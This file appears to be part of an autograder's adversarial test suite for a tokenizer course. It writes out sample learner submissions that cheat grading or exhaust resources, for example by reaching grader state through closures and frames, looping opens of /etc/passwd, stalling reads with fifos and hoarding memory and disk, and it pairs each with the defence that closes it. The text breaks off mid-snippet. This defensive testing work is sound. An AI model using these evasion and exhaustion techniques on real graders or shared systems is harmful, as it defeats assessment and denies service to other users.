# 2), the code, and the test cells it must cost.
FIFO_PATH = {
    "module file a fifo": ("task2_count_chunk", "import os as _os\nif not _os.path.exists('module_fifo'):\n"
                           "    _os.mkfifo('module_fifo')\n__file__ = _os.path.abspath('module_fifo')\n",
                           ("task2_count_chunk", "task2_count_chunk_hidden")),
    "module file a pipe": ("task2_count_chunk", "import os as _os\n_PIPE = _os.pipe()\n__file__ = f'/proc/self/fd/{_PIPE[0]}'\n",
                           ("task2_count_chunk", "task2_count_chunk_hidden")),
    # a cell that fails in a function whose code object names a fifo: the worker loop formats its traceback
    "traceback line from a fifo": ("task3_merge_counts", "import os\nos.mkfifo('lines_fifo')\n\n\ndef _fails():\n    raise "
                                   "ValueError('no')\n\n\n_fails.__code__ = _fails.__code__.replace(co_filename="
                                   "os.path.abspath('lines_fifo'))\n_fails()\n", ()),
    # a %%writefile cell whose file is a fifo
    "writefile onto a fifo": ("task3_merge_counts", "import os\nos.mkfifo('notes.py')\nget_ipython().run_cell_magic("
                              "'writefile', 'notes.py', 'NOTES = 1\\n')\n", ()),
    # a fifo where task 4's driver writes the reference's count_chunk module: task 4 lost, at once
    "task 4's module a fifo": ("task3_merge_counts", "import os\nos.mkfifo('_grader_chunk_counting.py')\n",
                               ("task4_count_pretokens_in_file",)),
}


def _with_a_fifo(kind: str) -> list[dict]:
    from test_mistakes import source_of

    where, code, lost = FIFO_PATH[kind]
    cells = [code_cell("setup", source_of("03_parallel", "setup"))]
    tasks = {"task2_count_chunk": (1, 2), "task3_merge_counts": (1, 1), "task4_count_pretokens_in_file": (1,)}
    for task, points in tasks.items():
        if task.startswith("task4") and task not in lost:
            continue
        cells.append(code_cell(f"{task}_solution", source_of("03_parallel", f"{task}_solution") + ("\n" + code) * (task == where)))
        if task == "task2_count_chunk":
            cells.append(code_cell("task2_import", source_of("03_parallel", "task2_import")))
        cells += [graded_cell(grade_id, point) for grade_id, point in zip((task, f"{task}_hidden"), points)]
    return cells


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="fifos and /proc/self/fd are Linux's here")
@pytest.mark.parametrize("kind", sorted(FIFO_PATH))
def test_a_fifo_where_the_worker_opens_a_learners_path_costs_its_task_not_minutes(kind):
    """Lab 03's count_chunk from a module whose ``__file__`` is a fifo (or a pipe's ``/proc/self/fd``): its driver's read
    of that file blocked until the call's backstop, 240 s of wall time each for task 2's visible and hidden calls, 0 CPU.
    A cell failing in a function whose code names a fifo blocked the worker loop's traceback, a ``%%writefile`` onto a
    fifo its write, until the cell's backstop, and the cell's names were lost with the worker (task 3 too); a fifo where
    task 4's driver writes the reference's module blocked task 4's call. Safe: each opens the path without blocking
    (``O_NONBLOCK``) and takes a regular file only (a module read of a bounded size): the task is lost at once, saying
    why, or the cell fails, and the rest of the notebook is graded as usual."""
    import resource

    skip_unless_drawn("redteam44", kind, sorted(FIFO_PATH))
    cells = _with_a_fifo(kind)
    children, start = resource.getrusage(resource.RUSAGE_CHILDREN), time.monotonic()
    record = grade_cells(cells, "03_parallel", seed=20261130)
    wall = time.monotonic() - start
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    cpu = after.ru_utime + after.ru_stime - children.ru_utime - children.ru_stime
    lost = FIFO_PATH[kind][2]
    assert len(record.verdicts) == len([cell for cell in cells if cell["metadata"]]), record.verdicts
    for verdict in record.verdicts:
        assert verdict.passed is (verdict.grade_id not in lost), verdict
        assert not kind.startswith("module") or verdict.passed or "not a regular file" in verdict.message, verdict.message
    # A stall is a request's backstop of wall time (lab 03: 240 s a call, 120 s a cell), whatever the load: far above.
    assert wall < 100, f"graded in {wall:.0f} s of wall time ({cpu:.1f} s of CPU in the worker's processes)"
    assert cpu < 60, f"{cpu:.1f} s of CPU in the worker's processes"


# ---- 45. lab 03's count_chunk module that reaches the notebook's function through what its process shares ----------------
#
# Lab 03's driver ran count_chunk's module in the notebook's own process (section 42), so the module's code reached
# whatever the notebook left in a module both share: here the cell stashes its count_chunk in ``sys``, and the module's
# count_chunk calls it (a spawned worker of a real pool has no such name).
CALLS_THE_CELLS_THROUGH_SYS = """
import sys
sys._mine = count_chunk
get_ipython().run_cell_magic('writefile', 'chunk_counting.py', 'import sys\\n\\n\\ndef count_chunk(path, start, end, special_tokens):'
                             '\\n    return sys._mine(path, start, end, special_tokens)\\n')
import chunk_counting
count_chunk = chunk_counting.count_chunk
"""


@pytest.mark.parametrize("whole_class", [False, True], ids=["self-grade", "class-replay"])
def test_a_count_chunk_module_that_calls_the_cells_through_a_shared_module_loses_task_2(whole_class):
    """Lab 03's count_chunk module whose count_chunk calls the cell's, stashed in ``sys`` by the notebook, kept task 2's
    points in both paths: the driver ran the module's file in the notebook's process, which shares ``sys``, its frames
    (section 42) and every module with it. Safe: the driver runs the module's file and calls its count_chunk in a process
    of its own started by spawn, as a pool's worker runs it, which holds nothing of the notebook's; the module's own
    count_chunk keeps the points (lab 03's solution, graded in every run)."""
    from test_mistakes import remote, source_of

    from bpe_ref.course.trusted.verdicts import hidden_seed

    code = (source_of("03_parallel", "setup") + "\n" + source_of("03_parallel", "task2_count_chunk_solution").split("\n", 1)[1]
            + CALLS_THE_CELLS_THROUGH_SYS)
    with hidden_seed(20261130, whole_class=whole_class):
        message = remote("03_parallel", code, "count_chunk", "check_count_chunk_properties")
    assert message is not None and "has no attribute '_mine'" in message, message


def test_the_modules_own_count_chunk_keeps_task_2_with_its_reads_measured_first_in_a_fresh_worker():
    """The process the driver runs count_chunk's module in starts at the first call of a worker (spawn's start-up reads
    some 3 MB), and task 2's hidden test measures its reads first: in a worker restarted before it, the solution's
    count_chunk read 3,280,993 bytes "of the file" and lost the hidden points. Safe: the measured check calls once,
    unmeasured, before (:func:`~bpe_ref.course.checks.lab03_parallel.verify_chunk_reads`)."""
    from test_mistakes import remote, source_of

    module = source_of("03_parallel", "task2_count_chunk_solution").split("\n", 1)[1]
    code = (source_of("03_parallel", "setup") + f"\nget_ipython().run_cell_magic('writefile', 'chunk_counting.py', {module!r})\n"
            "import chunk_counting\nfrom chunk_counting import count_chunk\n")
    message = remote("03_parallel", code, "count_chunk", "check_count_chunk_properties")
    assert message is None, message


# ---- 46. the grader's inputs, listed or watched by an earlier call: a file read before the call it is for ------------------
#
# The trusted side writes a call's file arguments into its inputs folder, which the worker may read. Lab 03's task 2
# writes the file whose reads it measures, then calls count_chunk once, unmeasured, on a file of 3 bytes (the driver's
# process starts): that call listed the folder and read every file in it, the measured one too, and the measured call
# sliced what it had read. Any earlier call could so read a file written for a later one, out of every measure.
READS_EVERY_INPUT = '''
import os
from bpe_ref.pretokenize import count_pretokens

_READ = {}


def count_chunk(path, start, end, special_tokens):
    # the mistake, reading the whole file and slicing it, but every file beside path read at the first call that saw it
    folder = os.path.dirname(path)
    try:
        names = os.listdir(folder)
    except OSError:
        names = []
    for name in names + [os.path.basename(path)]:
        other = os.path.join(folder, name)
        if other not in _READ:
            with open(other, "rb") as file:
                _READ[other] = file.read()
    return count_pretokens(_READ[path][start:end].decode("utf-8"), special_tokens)
'''


@pytest.mark.parametrize("whole_class", [False, True], ids=["self-grade", "class-replay"])
def test_a_count_chunk_that_reads_the_measured_file_at_an_earlier_call_loses_its_hidden_points(whole_class):
    """Lab 03's count_chunk that reads the whole file and slices it (the mistake task 2's hidden test measures), which
    also listed the grader's inputs folder at each call and read every file there it had not read yet: at the unmeasured
    call before the measured one, the measured file was there already, read whole out of any measure, and the measured
    call read none of it; the hidden points (2) kept in both paths. Safe: the worker reads the inputs' files by name only
    (Landlock's read-file right on the folder, not its read-dir; a watch of it, which tells the names of the files made
    there and which Landlock does not see, refused by the filter): the measured call reads the file whole and fails."""
    from test_mistakes import remote, source_of

    from bpe_ref.course.trusted.verdicts import hidden_seed

    code = (source_of("03_parallel", "setup") + f"\nget_ipython().run_cell_magic('writefile', 'chunk_counting.py', "
            f"{READS_EVERY_INPUT!r})\nimport chunk_counting\nfrom chunk_counting import count_chunk\n")
    with hidden_seed(20261130, whole_class=whole_class):  # the hidden test's measure of the reads, which it runs first
        message = remote("03_parallel", code, "count_chunk", "verify_chunk_reads")
    assert message is not None and "bytes of the file's" in message, message


WATCHES_A_FOLDER = """
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
_watcher = _libc.inotify_init1(os.O_NONBLOCK)
_watched = _libc.inotify_add_watch(_watcher, {folder!r}.encode(), 0x100)  # IN_CREATE
WATCH = (_watcher, _watched, ctypes.get_errno())
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="inotify and the filter are Linux's")
def test_the_inputs_folder_cannot_be_listed_nor_watched_and_its_files_are_read_by_name():
    """The rule of section 46 itself, in a worker of lab 03's policy: listing the inputs folder fails, a watch of it (which
    would tell each file's name as it is made) is refused and counted for review, a file there is read by its name."""
    import importlib

    from bpe_ref.course.trusted.autograde import lab_policy

    graders = importlib.import_module("bpe_ref.course.checks.lab03_parallel")
    with Sandbox(lab_policy(graders, Policy())) as box:
        if not confined(box):
            pytest.skip("no Landlock or seccomp here")
        path = box.write_input(b"low lower")
        run = box.run_cell(WATCHES_A_FOLDER.format(folder=str(box.inputs)) + f"""
try:
    LISTED = os.listdir({str(box.inputs)!r})
except OSError as error:
    LISTED = type(error).__name__
with open({path!r}, "rb") as file:
    READ = file.read()
""", "probe")
        assert run.ok, run.error
        watch = box.run_cell("print(WATCH, LISTED, READ)", "show")
        watcher, watched, errno = eval(watch.stdout.split(") ", 1)[0] + ")")
        assert watched == -1 and errno == 1, watch.stdout  # EPERM: refused
        assert "PermissionError b'low lower'" in watch.stdout, watch.stdout
        box.close()
        assert "inotify_add_watch" in box.behaviour().get("refused", {}), box.behaviour()


# ---- 47. a submission of many cells: nbgrader's own steps, outside the notebook's budget -------------------------------------
#
# The notebook's budget (total_timeout) bounds what the trusted grading spends on its cells and calls; nbgrader's steps
# before and after it (reading and validating the notebook, copying it for each step, writing it, the gradebook) cost some
# 0.4 ms of CPU time a cell, bounded by nothing. A release with 200,000 empty markdown cells (15 MB, well under the
# exchange's max_dir_size of 100 MB) cost a self-grade 76 s of CPU and 1.2 GB of memory; 100 MB, some 8 minutes of the
# class's autograde and 8 GB, for each such submission.


def test_a_notebook_of_more_cells_than_any_lab_needs_is_not_graded(tmp_path):
    """Lab 00's release with empty markdown cells past the cap (:data:`~bpe_ref.course.trusted.autograde.MAX_CELLS`) was
    graded as any, at nbgrader's cost per cell, outside the notebook's budget: 200,000 of them cost 76 s of CPU and 1.2 GB
    of memory (load 8 on 2 cores). Safe: the first step of autograde's sanitizing (``BoundedSubmission``, in
    ``nbgrader_config.py``, so in a class's ``nbgrader autograde`` as in a self-grade) refuses a notebook of more cells
    or outputs than a submission may have, before nbgrader's other steps: not graded, reported, 0 in a class (the same
    200,000 cells then cost 13 s of CPU, the grading command's start-up included). Every lab's solution and release is
    graded in every run, well under the cap."""
    import json

    from bpe_ref.course.grade import NotGradable, autograde_notebook
    from bpe_ref.course.notebooks import LABS_DIR
    from bpe_ref.course.trusted.autograde import MAX_CELLS

    notebook = json.loads((LABS_DIR / "00_pretokenization" / "00_pretokenization.ipynb").read_text(encoding="utf-8"))
    extra = MAX_CELLS + 1 - len(notebook["cells"])
    notebook["cells"][1:1] = [{"cell_type": "markdown", "id": f"filler{i}", "metadata": {}, "source": "a"} for i in range(extra)]
    path = tmp_path / "00_pretokenization.ipynb"
    path.write_text(json.dumps(notebook), encoding="utf-8")
    with pytest.raises(NotGradable):
        autograde_notebook(path, "00_pretokenization")


# ---- 48. a measure passed in the visible test, standing for the hidden test of a function defined again in between -----------
#
# A task's measured check passed in its visible test stands for its hidden test (it costs the most of a lab's grading), and
# was kept by the function's name alone: a cell between the two test cells (the submission's order is the learner's) that
# defined the function again had the hidden test compare the new one's answers and never measure it.


def _pop_sorted_again() -> str:
    """The solution's pop_best with its heappop replaced by a sort of the entries and their first taken (O(H) a pop: the
    mistake verify_pop_cost catches, ``tests/test_mistakes.py``), as a cell defining it again."""
    from test_mistakes import POP_BY_HEAPPOP, POPS_WITHOUT_THE_HEAP, source_of

    solution = source_of("05_heap", "task2_pop_best_solution")
    assert POP_BY_HEAPPOP in solution
    return solution.replace(POP_BY_HEAPPOP, POPS_WITHOUT_THE_HEAP["sort-then-first"])


def test_a_function_defined_again_after_its_visible_test_is_measured_in_the_hidden_test():
    """Lab 05's pop_best: the solution's, measured in the visible test (2,000 calls in turn on one heap), then a cell that
    defines it again sorting the entries on each pop (O(H) a pop, the mistake the measure catches), then the hidden test:
    its answers are right, and the measure that passed stood for it ("as measured in the visible test"), so the hidden
    points were kept. Safe: a measure passed stands for the hidden test only while no cell of the learner's ran since (the
    course's notebooks have none between a task's two test cells, so honest work is measured once as before)."""
    from test_mistakes import source_of

    cells = [code_cell("setup", source_of("05_heap", "setup")),
             code_cell("task1_heap_entry_solution", source_of("05_heap", "task1_heap_entry_solution")),
             code_cell("task2_pop_best_solution", source_of("05_heap", "task2_pop_best_solution")),
             graded_cell("task2_pop_best", 1),
             code_cell("defined_again", _pop_sorted_again()),
             graded_cell("task2_pop_best_hidden", 2)]
    record = grade_cells(cells, "05_heap", seed=20261130)
    verdicts = {verdict.grade_id: verdict for verdict in record.verdicts}
    assert verdicts["task2_pop_best"].passed, verdicts["task2_pop_best"].message
    hidden = verdicts["task2_pop_best_hidden"]
    assert not hidden.passed and "measured from outside your code" in hidden.message, hidden.message



# ---- 49. lab 10's schedule made by the function graded, its tuples filed where the driver keeps those it made --------------
#
# Section 40's tree_reduce that pairs the parts itself, never calling combine, now files each tuple it makes in the dict
# the driver keeps by identity, reached through the closure of the pair function it is handed: every tuple of its tree
# then read as made through combine. And with a seal of its own for each (32 bytes, a seal's size, in the driver's form).
FILES_ITS_OWN_TUPLES = '''
def tree_reduce(parts, combine):
    made = next((cell.cell_contents for cell in getattr(combine, "__clo" + "sure__") or ()
                 if type(cell.cell_contents) is dict), {})
    level = list(parts)
    while len(level) > 1:
        paired = [(level[i], level[i + 1]) for i in range(0, len(level) - 1, 2)]
        for node in paired:
            made[id(node)] = node
        level = paired + level[len(paired) * 2:]
    return level[0]
'''
FILED_AS_MADE = {"as-they-are": FILES_ITS_OWN_TUPLES,
                 "with-seals-of-its-own": "import os\n" + FILES_ITS_OWN_TUPLES.replace(
                     "made[id(node)] = node", "made[id(node)] = (node, os.urandom(32))")}

# Task 5's count_ranges that writes the graph itself (section 40), each task filed in the dict the recorder keeps, reached
# through the closure of the one as_task call it makes (never called), with a seal of its own.
FILES_ITS_OWN_TASKS = '''
import os


def count_ranges(ranges, special_tokens, as_task=None):
    if as_task is None:
        parts = [count_range(path, start, end, special_tokens) for path, start, end in ranges]
        return tree_reduce(parts, merge_two) if parts else {}
    made = next(cell.cell_contents for cell in getattr(as_task(count_range), "__clo" + "sure__")
                if type(cell.cell_contents) is dict)

    def filed(node):
        made[id(node)] = (node, os.urandom(32))
        return node

    parts = [filed(("count_range", path, start, end, special_tokens)) for path, start, end in ranges]
    return tree_reduce(parts, lambda left, right: filed(("merge_two", left, right))) if parts else {}
'''

# The statement's rounds written otherwise, honestly: by recursion on each round's list.
RECURSIVE_ROUNDS = '''
def tree_reduce(parts, combine):
    def rounds(level):
        if len(level) == 1:
            return level[0]
        paired = [combine(level[i], level[i + 1]) for i in range(0, len(level) - 1, 2)]
        return rounds(paired + level[len(paired) * 2:])

    return rounds(list(parts))
'''


def _lab10_graded(code: list[str], name: str, grader: str, whole_class: bool) -> str | None:
    from test_mistakes import remote, source_of

    from bpe_ref.course.trusted.verdicts import hidden_seed

    setup = source_of("10_distributed", "setup")
    honest = [source_of("10_distributed", f"{task}_solution") for task in ("task1_count_range", "task2_merge_two")]
    with hidden_seed(20261130, whole_class=whole_class):
        return remote("10_distributed", "\n".join([setup, *honest, *code]), name, grader)


@pytest.mark.parametrize("whole_class", [False, True], ids=["self-grade", "class-replay"])
@pytest.mark.parametrize("kind", sorted(FILED_AS_MADE))
def test_a_tree_reduce_that_files_its_own_tuples_where_the_driver_keeps_them_loses_task_3(kind, whole_class):
    """Lab 10's tree_reduce that never calls combine (section 40: its tree of merge_two's counts is nested tuples of dicts,
    no count) kept task 3's 4 points once it filed each tuple it made in the driver's dict of made tuples, reached
    through ``combine.__closure__`` (spelled so that the text's review hint misses it): the driver, in the worker beside
    it, reported what its dict held. Safe: in the grading worker each pair the driver makes is sealed as it is made, by
    the worker loop's sealing thread (a keyed seal of its own kind over the pair's items, its nodes by their seals), and
    the trusted side checks every node's seal against the items reported under it, whatever the driver's dict holds:
    the tuples filed as made, as they are or with seals of their own, are not made by the function handed in. The same
    tree_reduce written as recursive rounds keeps its points."""
    from test_mistakes import source_of

    skip_unless_drawn("redteam49", kind, sorted(FILED_AS_MADE))  # one kind, in the path its family draws
    shape = source_of("10_distributed", "task3_tree_shape")
    message = _lab10_graded([FILED_AS_MADE[kind], shape], "tree_shape", "check_tree_shape_properties", whole_class)
    assert message is not None and "never build it" in message, message
    assert _lab10_graded([RECURSIVE_ROUNDS, shape], "tree_shape", "check_tree_shape_properties", whole_class) is None


@pytest.mark.parametrize("whole_class", [False, True], ids=["self-grade", "class-replay"])
def test_a_count_ranges_that_files_its_own_tasks_where_the_recorder_keeps_them_loses_task_5_s_graph(whole_class):
    """Task 5's graph has the same design (its driver's ``recorded`` keeps each task it made by identity): a
    count_ranges that writes the graph itself and files each task, with a seal of its own, in the recorder's dict
    (reached through the closure of one as_task call it never calls) kept the graph's point. Safe: the recorder's tasks
    are sealed as task 3's pairs are; the filed ones are not the recorder's (the course's solution keeps its point:
    section 40, and its class in tests/test_grading_adversarial.py)."""
    from test_mistakes import source_of

    graph = source_of("10_distributed", "task5_task_graph")
    message = _lab10_graded([source_of("10_distributed", "task3_tree_reduce_solution"), FILES_ITS_OWN_TASKS, graph],
                            "task_graph", "check_task_graph_properties", whole_class)
    assert message is not None and "never write the tuples yourself" in message, message


# What the seal cannot tell: the pair function's own body, run by the learner's code. The driver's namespace (the pair
# function's globals) holds the sealing thread's service and the driver's helpers; a tree_reduce that pairs the parts
# itself and makes each pair as the pair function does (``_made_here``, the same dict, the same service) has handed the
# sealing thread each pair's items, exactly as a call of combine does.
PAIR_S_BODY_RUN_BY_ITSELF = '''
def tree_reduce(parts, combine):
    names = getattr(combine, "__glo" + "bals__")
    made = next(cell.cell_contents for cell in getattr(combine, "__clo" + "sure__") if type(cell.cell_contents) is dict)
    level = list(parts)
    while len(level) > 1:
        paired = [names["_made_here"]((level[i], level[i + 1]), made, names["sealed_by_the_loop"])
                  for i in range(0, len(level) - 1, 2)]
        level = paired + level[len(paired) * 2:]
    return level[0]
'''


@pytest.mark.xfail(strict=True, reason="open (issue 21): the pair function's body run by the learner's code is the pair "
                   "function under another name; nothing in the worker's process tells a call from it (its namespace, "
                   "the sealing thread's service, is the code's to reach), and combine run outside the process would be "
                   "reached the same way. What the seal closes is a tuple taken as made that was never handed to the "
                   "sealing thread")
def test_a_tree_reduce_that_runs_the_pair_function_s_body_itself_loses_task_3():
    """A tree_reduce that never calls combine but runs its body (the driver's ``_made_here`` and the sealing thread's
    service, from combine's globals) for each pair it makes keeps task 3's points: every node of its tree was handed to
    the sealing thread with exactly its items, as a call of combine hands them. Not closed: see the reason."""
    from test_mistakes import source_of

    message = _lab10_graded([PAIR_S_BODY_RUN_BY_ITSELF, source_of("10_distributed", "task3_tree_shape")], "tree_shape",
                            "check_tree_shape_properties", False)
    assert message is not None and "never build it" in message, message


def _measured_tree_cost(graders, tree_shape) -> None:
    graders.TREE_COST.verify(tree_shape)


def test_a_tree_reduce_wrong_on_the_measured_input_alone_is_told_so_in_the_grading_worker():
    """A measured check that fails and was not stopped runs its task's fixed cases first, so that a wrong answer is told
    by their hint. Lab 10's tree_reduce is judged through seals (its pairs sealed in the grading worker): the cases
    compared without that judge took every pair's seal for a part, so a tree_reduce right on them and wrong on the
    measured input (a long list) was told, in the grading worker, "the parts are not all there" of a case it gets right
    (session 42). Safe: the measured check's cases are the declaration's own, judged as its visible test judges them
    (``MeasuredCost.explained_by``), and the failure is the measured input's."""
    from test_mistakes import source_of

    wrong_on_long = source_of("10_distributed", "task3_tree_reduce_solution") + """

_taught = tree_reduce


def tree_reduce(parts, combine):
    return _taught(list(parts)[:-1] if len(parts) > 1000 else parts, combine)  # the last part dropped from long lists
"""
    message = _lab10_graded([wrong_on_long, source_of("10_distributed", "task3_tree_shape")], "tree_shape",
                            _measured_tree_cost, False)
    assert message is not None and "ints (drawn), added" in message and "not all there" not in message, message


# The seals of section 49 rest on the key staying with the sealing thread, which must run none of the learner's code. The
# dispatcher's closure holds the cells it shares with that thread (``work``, ``done``), and a cell is writable: a queue of
# the learner's put there would have its ``get`` or ``put`` run on the sealing thread. The loop's main() held the
# dispatcher in a local, below every cell: a signal handler's frame, ``f_back``, ``f_locals`` (no audit event) reached it.
DISPATCHER_SOUGHT = """
import signal, time

_found, _looks = set(), []


def _look(signum, frame):
    _looks.append(1)
    while frame is not None:
        _found.update(name for name in (getattr(value, "__name__", "") for value in getattr(frame, "f_" + "locals").values())
                      if name in ("dispatching", "sealing"))
        frame = getattr(frame, "f_" + "back")


signal.signal(signal.SIGALRM, _look)
signal.setitimer(signal.ITIMER_REAL, 0.002, 0.002)
_until = time.monotonic() + 0.1
while not _found and time.monotonic() < _until:
    pass
signal.setitimer(signal.ITIMER_REAL, 0)
print(sorted(_found), len(_looks) > 10)
"""


def test_the_cells_the_sealing_thread_reads_are_not_reached_from_the_frames_below_a_cell():
    """No frame of the main thread holds the dispatcher or the sealing function in its locals (the loop calls the
    dispatcher as it is returned), so their closures' cells, which the sealing thread reads, are not the learner's to
    rewrite through them; the loop answers on."""
    with Sandbox(Policy()) as box:
        run = box.run_cell(DISPATCHER_SOUGHT, "sought")
        assert box.run_cell("print('still answering')", "after").stdout.strip() == "still answering"
    assert run.ok and run.stdout.split() == ["[]", "True"], run


# ---- 50. the keeper made to work for the learner's code: its CPU time, outside every limit and the budget ---------------------
#
# The keeper answers each open, mmap and refused call of the worker's processes (a user notification: it reads the path
# from the caller's memory, resolves it, counts it). A cell's and a call's limit, and the notebook's budget, counted the
# CPU time of every process under the keeper but not the keeper's own; the backstop of wall time does not run while the
# keeper does. A loop of opens costs the worker a few microseconds each and the keeper some 0.1 ms: 9 times as much.
OPENS_FOREVER = "import os\nwhile True:\n    try:\n        os.open('/etc/passwd', os.O_RDONLY)\n    except OSError:\n        pass\n"


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the keeper is Linux's")
def test_a_loop_of_opens_is_stopped_at_its_limit_counting_the_keepers_time():
    """A cell that opens a file it may not read, forever: stopped at its limit of CPU time once the worker had spent it,
    while the keeper, answering each open, spent 9 times as much (a limit of 2 s: 21.7 s of CPU in all; a call's limit of
    30 s: 4 to 5 minutes of a core; the notebook's budget of 300 s: 45 minutes, per submission of a class). Safe: the
    limits and the budget count the keeper's own CPU time with its processes'
    (:func:`~bpe_ref.course.trusted.measure_worker.tree_cpu_seconds`, ``keeper_own``): the cell is stopped once both
    have spent its limit."""
    import resource

    with Sandbox(Policy(cell_timeout=1)) as box:
        if not confined(box) or not any("opens Landlock refuses" in line for line in box.isolation):
            pytest.skip(f"the keeper does not watch opens here ({'; '.join(box.isolation)})")
        before = resource.getrusage(resource.RUSAGE_CHILDREN)
        run = box.run_cell(OPENS_FOREVER, "opens")
        box.close()
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    cpu = after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime
    assert not run.ok, run
    # the keeper's and the worker's CPU time together (both reaped by now): about the limit, not 9 times it
    assert cpu < 5, f"{cpu:.1f} s of CPU in the keeper and the worker for a cell limited to 1 s"


# ---- 51. a class dealt to --jobs: student ids that nbgrader's command line reads otherwise -----------------------------------
#
# ``python -m bpe_ref autograde LAB --jobs N`` deals the class to N ``nbgrader autograde`` processes, each told on its
# command line to leave out the others' students (``--CourseDirectory.student_id_exclude=a,b,...``). traitlets reads
# that string through ``Unicode.from_string``: a leading ``~`` expanded, one pair of quotes around the whole taken off.
# The exchange takes the id a learner submits under (``nbgrader submit --student``; collect only warns when it is not
# the folder's owner), so ids such as ``"ann`` and ``zed"``, or ``~nobody``, are the learner's choice.
ODD_CLASSES = (['"ann', "bob", 'zed"'], ["bob", "~nobody"], ["'a", "b", "c'"], ["~root", "ann", "bob"],
               ["ann", "b o b", "émile", "x" * 200])


@pytest.mark.parametrize("everyone", ODD_CLASSES, ids=lambda everyone: "+".join(everyone)[:40])
def test_every_submission_of_a_class_is_graded_by_one_job_whatever_its_id(everyone):
    """The job of bob also graded ``"ann`` and ``zed"`` (read as ``ann`` and ``zed``, so not left out), or ``~nobody``
    (read as ``/nonexistent``): the same submissions graded by two nbgrader processes at once, each replacing the other's
    autograded folder and gradebook rows (``--force``), at twice the CPU, in the job of a classmate. Safe: the list to
    leave out starts with the empty id, which no student has, so traitlets changes nothing in it, and what it reads is
    checked before any job starts (:func:`bpe_ref.course.commands.autograde.excluded_value`). Checked here through
    nbgrader's own parsing of each job's command line: each submission is graded by exactly one job."""
    import warnings

    from nbgrader.apps import AutogradeApp
    from nbgrader.coursedir import CourseDirectory

    from bpe_ref.course.commands.autograde import dealt, job_command

    graded_by: dict[str, int] = {}
    for group in dealt(everyone, 2):
        command = job_command("01_naive_bpe", group, everyone, force=True)
        app = AutogradeApp()
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", DeprecationWarning)  # traitlets' warning for the quotes it took off
            app.parse_command_line(command[command.index("autograde"):])
        left_out = set(CourseDirectory(parent=app).student_id_exclude.split(","))
        for student in everyone:
            if student not in left_out:
                graded_by[student] = graded_by.get(student, 0) + 1
    assert graded_by == dict.fromkeys(everyone, 1)


# ---- 52. a lab with processes: the memory of them all, each under its own limit --------------------------------------------
#
# RLIMIT_AS holds each process of the worker to ``memory_mb`` (2 GiB), not their sum; lab 03 lets a submission have up
# to ``max_processes`` (64) at once: 128 GiB, against this machine's 24 GiB and no swap. Past the machine's memory the
# kernel's OOM killer ends the processes of largest footprint, whoever's: with its own spread over many processes of
# modest size each, a classmate's nbgrader process (graded at the same time by ``--jobs``) is among the largest.
HOLDS_MEMORY_IN_PROCESSES = """
import os, time
children = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        held = b"x" * (200 << 20)  # written: resident, not a promise
        time.sleep(2)
        os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
print("held")
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the keeper and /proc are Linux's")
def test_the_processes_of_a_worker_are_held_to_its_memory_together():
    """A cell of lab 03 whose 4 processes each hold 200 MiB, each under a limit of 400 MiB: 800 MiB held, twice the
    limit, and the cell ran to its end (64 such processes under lab 03's 2 GiB each: 128 GiB, more than the machine, the
    OOM killer's choice of victims then the submission's). Safe: the sandbox reads the memory resident in all the
    worker's processes ten times a second (:func:`~bpe_ref.course.trusted.measure_worker.tree_resident_bytes`) and
    stops them all past ``memory_mb`` together (:meth:`~bpe_ref.course.trusted.sandbox.Sandbox._watch_memory`)."""
    with Sandbox(Policy(allow_processes=True, memory_mb=400, cell_timeout=20)) as box:
        if not confined(box):
            pytest.skip(f"not confined here ({'; '.join(box.isolation)})")
        run = box.run_cell(HOLDS_MEMORY_IN_PROCESSES, "holds")
        because = box.killed_because
    assert not run.ok and "held" not in run.stdout, run
    assert "of memory together" in because, because


# ---- 53. storage no walk of the scratch folder sees: files held open once unlinked, memfds, files in flight -------------------
#
# The scratch folder is walked twice a second for its size (``scratch_mb``); RLIMIT_FSIZE caps each file at ``file_mb``
# (64 MiB), and a process held some 20,000 fds (now 1,024: RLIMIT_NOFILE, below). A file opened, unlinked and written,
# or a memfd (memory, which RLIMIT_AS counts only where mapped), is in no folder: 20,000 of 64 MiB are 1.2 TiB, the
# machine's disk (76 GiB free here) or memory (24 GiB, no swap: the OOM killer, which cannot blame a process for a memfd
# it does not map, then ends the largest processes of the machine, a classmate's grading among them).
HELD_UNLINKED = """
import os
held = []
for i in range(4):
    fd = os.open(f"f{i}", os.O_CREAT | os.O_RDWR)
    os.unlink(f"f{i}")
    os.write(fd, b"x" * (60 << 20))
    held.append(fd)
for i in range(4):
    fd = os.memfd_create(f"m{i}")
    os.write(fd, b"x" * (60 << 20))
    held.append(fd)
import time; time.sleep(2)
print("held", len(held))
"""
IN_FLIGHT = """
import os, socket
a, b = socket.socketpair()
for i in range(4):
    fd = os.memfd_create(f"m{i}")
    os.write(fd, b"x" * (60 << 20))
    socket.send_fds(a, [b"f"], [fd])  # in the socket's queue: in no process's fd table once closed
    os.close(fd)
import time; time.sleep(2)
print("in flight")
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc is Linux's")
@pytest.mark.parametrize("processes", [False, True], ids=["alone", "with processes"])
def test_files_held_open_unlinked_or_in_memory_count_in_the_scratch_limit(processes):
    """A cell that holds 4 files of 60 MiB it unlinked and 4 memfds of 60 MiB: 480 MiB of disk and memory against a
    folder's limit of 64 MiB and a memory limit of 200 MiB, and the cell ran to its end. Safe: the sandbox's look at the
    folder (twice a second) adds the blocks of every file the worker's processes hold open that no folder links
    (:func:`~bpe_ref.course.trusted.measure_worker.held_unlinked_bytes`, read from ``/proc/PID/fd``), and stops them
    past ``scratch_mb``; a process that hides its open files (undumpable) is stopped too."""
    with Sandbox(Policy(scratch_mb=64, memory_mb=200, cell_timeout=20, allow_processes=processes)) as box:
        run = box.run_cell(HELD_UNLINKED, "held")
        because = box.killed_because
    assert not run.ok and "held" not in run.stdout, run
    assert "files it holds unlinked or in memory" in because, because


PASSES_FDS = """
import os, socket
a, b = socket.socketpair()
r, w = os.pipe()
shm = os.open("/dev/shm/passed", os.O_CREAT | os.O_RDWR)
